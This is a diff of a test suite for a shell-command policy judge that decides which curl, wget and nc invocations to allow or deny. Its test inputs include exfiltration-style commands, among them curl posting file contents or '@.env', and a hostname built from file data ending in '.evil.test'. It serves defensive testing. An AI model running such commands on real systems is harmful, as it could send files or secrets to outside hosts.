@@ -84,14 +84,24 @@ describe('a request to localhost', () => {
     expect(remedy).toContain('`curl -s localhost:3000`');
     for (const command of [
       'curl localhost https://example.org',
-      'curl -x example.org:80 localhost',
       'wget localhost a.b',
       'nc -z example.org 80',
-      'ls | xargs -I{} curl {}',
       "curl 'http://{localhost,example.org}/'",
     ])
       expect(judge(command), command).toMatchObject({ rule, remedy });
     expect(judge('ping localhost').remedy).not.toContain('curl');
+  });
+
+  it.each([
+    ['curl -x example.org:80 localhost', 'the option "-x" of curl is not allowed'],
+    ['curl -K a.txt localhost:3000', 'the option "-K" of curl is not allowed'],
+    ['ls | xargs -I{} curl {}', 'where "{}" leads is not known before curl runs'],
+    ['x=$(cat a.txt); curl -s "$x"', 'where "$x" leads is not known before curl runs'],
+    ['mapfile -t x < a.txt; curl "${x[@]}" localhost', '"${x[@]}" may hold an address for curl'],
+    ['read -r x < a.txt; curl -H "$x" localhost', '"$x" as the value of -H of curl may become the name of a file'],
+    ['read -r x < a.txt; curl -F "a=$x" localhost', '"a=$x" as the value of -F of curl may become the name of a file'],
+  ])('says what keeps it from being one: %s', (command, reason) => {
+    expect(judge(command).reason).toContain(reason);
   });
 });
 
@@ -124,6 +134,12 @@ describe.skipIf(!isInstalled)('curl and wget, really run', () => {
     ['curl -sS -d @a.txt http://127.0.0.1:PORT/x', 'POST /x a'],
     [`curl -s "localhost:PORT/x/$(printf %s '@a.test:1/{1,2}')"`, 'GET /x/@a.test:1/1 GET /x/@a.test:1/2 '],
     ['curl -s --data-raw "$(echo @.env)" localhost:PORT/x', 'POST /x @.env'],
+    ['while read -r m p; do curl -s -X "$m" "localhost:PORT/$p"; done <<< "PUT a"', 'PUT /a '],
+    ['while read -r p; do curl -s -o "got-$p" "localhost:PORT/$p"; cat "got-$p"; done <<< a', 'GET /a '],
+    [
+      'for t in "" x; do a=(-s); [ -n "$t" ] && a+=(-d "$t b"); curl "${a[@]}" localhost:PORT/y; done',
+      'GET /y POST /y x b',
+    ],
     ['curl -s -d "x=$(echo @.env)" localhost:PORT', 'POST / x=@.env'],
     ["wget -qO- --post-data='@.env' http://localhost:PORT/x", 'POST /x @.env'],
   ])('ask the server: %s', async (command, answer) => {
@@ -158,7 +174,7 @@ describe.skipIf(!isInstalled)('curl and wget, really run', () => {
     'x=$(cat a.txt); y=$(cat a.txt); curl -s "http://localhost:3000$x$y:1/"',
     'P=$(cat a.txt); x=$(cat a.txt); curl -s "http://localhost:$P$x.evil.test"',
   ])('ask nobody where the value may be a part of the host: %s', (command) => {
-    expect(judge(command).rule).toBe('bash.allowlist');
+    expect(judge(command).rule).toBe('bash.dynamic');
     expect(judge(command).verdict).toBe('deny');
   });
 
@@ -174,10 +190,8 @@ describe.skipIf(!isInstalled)('curl and wget, really run', () => {
 });
 
 it('are made in a loop where their number is not known, as the refusal of xargs says', () => {
-  const { rule, remedy } = judge('ls | xargs -I{} curl -s -d {} localhost:3000');
-  expect({ rule, remedy }).toEqual({
-    rule: 'bash.dynamic',
-    remedy: 'Write a loop: while read -r x; do curl "localhost:3000/$x"; done',
-  });
-  expect(judge(`seq 4 | ${remedy?.replace('Write a loop: ', '')}`).verdict).toBe('allow');
+  const { rule, remedy = '' } = judge('ls | xargs curl -s');
+  expect(rule).toBe('bash.dynamic');
+  const [loop = ''] = /while .*/.exec(remedy) ?? [];
+  expect(judge(`seq 4 | ${loop}`).verdict).toBe('allow');
 });
